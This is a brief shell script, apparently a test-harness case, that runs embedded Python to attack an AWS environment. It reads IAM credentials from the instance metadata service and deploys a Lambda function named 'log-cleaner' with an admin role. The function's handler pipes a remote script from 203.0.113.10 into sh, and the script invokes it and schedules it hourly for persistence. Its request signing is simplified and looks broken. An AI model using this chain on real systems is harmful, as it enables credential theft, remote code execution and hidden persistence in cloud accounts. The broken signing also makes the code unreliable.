#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import base64, io, json, urllib.request as u, zipfile
m = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"; k = json.load(u.urlopen(m + "web-credentials"))
z = io.BytesIO(); zipfile.ZipFile(z, "w").writestr("index.py", "def handler(e, c): import os; os.system('curl -s http://203.0.113.10/payload.sh|sh')")
def call(method, path, body): return u.urlopen(u.Request("http://lambda.eu-west-1.amazonaws.com" + path, json.dumps(body).encode(), {"Authorization": "AWS4-HMAC-SHA256 Credential=" + k["AccessKeyId"], "X-Amz-Security-Token": k["Token"]}, method=method)).status
assert call("POST", "/2015-03-31/functions", {"FunctionName": "log-cleaner", "Runtime": "python3.12", "Role": "admin", "Handler": "index.handler", "Code": {"ZipFile": base64.b64encode(z.getvalue()).decode()}}) == 200
call("POST", "/2015-03-31/functions/log-cleaner/invocations", {}); call("PUT", "/rules/hourly", {"ScheduleExpression": "rate(1 hour)"})
END
took_place
